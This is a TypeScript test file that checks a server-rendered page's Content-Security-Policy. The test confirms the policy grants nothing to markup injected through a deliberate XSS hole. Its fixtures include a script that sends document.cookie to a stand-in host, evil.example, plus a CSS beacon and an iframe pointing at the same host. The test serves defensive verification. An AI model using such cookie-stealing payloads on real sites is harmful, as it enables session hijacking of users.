/** Through the whole renderer: what the policy of a page allows is what we wrote, not what stands in the page. */
import { createHash } from "node:crypto";
import { createRequestHandler, RouterContextProvider, type ServerBuild } from "react-router";
import { afterEach, beforeEach, expect, it, vi } from "vitest";
import handleRequest from "./entry.server.tsx";
import { Layout } from "./root.tsx";
import { Frame } from "./ui/frame.tsx";

const EVIL = "fetch('https://evil.example/?'+document.cookie)";
const EVIL_STYLE = "body{background:url(https://evil.example)}";
/** A hole as a later mistake may make one: words that somebody sent, written into the page as markup. */
const hole = `<script>${EVIL}</script><style>${EVIL_STYLE}</style><script nonce="">${EVIL};</script>
  <iframe src="https://evil.example/frame"></iframe><script nonce="guess" type="module">${EVIL};;</script>`;

const hashOf = (code: string) => `'sha256-${createHash("sha256").update(code).digest("base64")}'`;

function Page() {
  return (
    <main>
      <Frame title="Calendar" src="https://calendar.example/nina" />
      {/* biome-ignore lint/security/noDangerouslySetInnerHtml: the hole this test is about */}
      <div dangerouslySetInnerHTML={{ __html: hole }} />
    </main>
  );
}

function draw(loaderData: object) {
  const assets = { module: "/assets/root.js", imports: [], css: [], hasAction: false, hasLoader: true };
  const root = { id: "root", path: "" };
  const build = {
    entry: { module: { default: handleRequest } },
    routes: { root: { ...root, module: { default: Page, Layout, loader: () => loaderData } } },
    assets: {
      entry: { module: "/assets/entry.js", imports: [] },
      routes: { root: { ...root, ...assets, hasClientLoader: false, hasErrorBoundary: false } },
      url: "/assets/manifest.js",
      version: "1",
    },
    publicPath: "/",
    assetsBuildDirectory: "build/client",
    future: {},
    ssr: true,
    isSpaMode: false,
    prerender: [],
    routeDiscovery: { mode: "initial" },
  } as unknown as ServerBuild;
  return createRequestHandler(build)(new Request("https://foyer.example/"), new RouterContextProvider());
}

beforeEach(() => void vi.stubEnv("PROD", true));
afterEach(() => void vi.unstubAllEnvs());

it.each([
  ["a public page", {}],
  ["a page of the console", { console: true }],
])("%s allows its own scripts, styles and frames, and nothing from a hole", async (_what, loaderData) => {
  const response = await draw(loaderData);
  expect(response.status).toBe(200);
  const html = await response.text();
  const policy = response.headers.get("content-security-policy") ?? "";
  const directive = (name: string) =>
    policy
      .split("; ")
      .find((each) => each.startsWith(`${name} `))
      ?.split(" ") ?? [];

  // The hole is in the page, and the policy knows nothing of it.
  expect(html).toContain(EVIL);
  for (const code of [EVIL, `${EVIL};`, `${EVIL};;`]) expect(policy).not.toContain(hashOf(code));
  expect(policy).not.toContain(hashOf(EVIL_STYLE));
  expect(directive("frame-src")).toEqual(["frame-src", "https://calendar.example"]);
  expect(policy).not.toMatch(/unsafe|nonce|evil/);

  // Every script and style of ours is in it: the page works.
  const ours = html.replace(hole, "");
  for (const tag of ["script", "style"] as const) {
    const found = [...ours.matchAll(new RegExp(`<${tag}(?![^>]*\\ssrc=)[^>]*>([\\s\\S]*?)</${tag}>`, "g"))];
    const hashes = new Set(found.map(([, code = ""]) => hashOf(code)));
    expect(hashes.size).toBeGreaterThan(0);
    expect(new Set(directive(`${tag}-src`).slice(2))).toEqual(hashes);
  }
  // What is kept in memory and sent to many carries no mark that a stranger could copy.
  expect(ours).not.toMatch(/\snonce=/);
});

it("draws the same HTML each time, so that a browser's copy stays good", async () => {
  const seen = await Promise.all([1, 2].map(async () => (await draw({})).text()));
  expect(seen[0]).toBe(seen[1]);
});
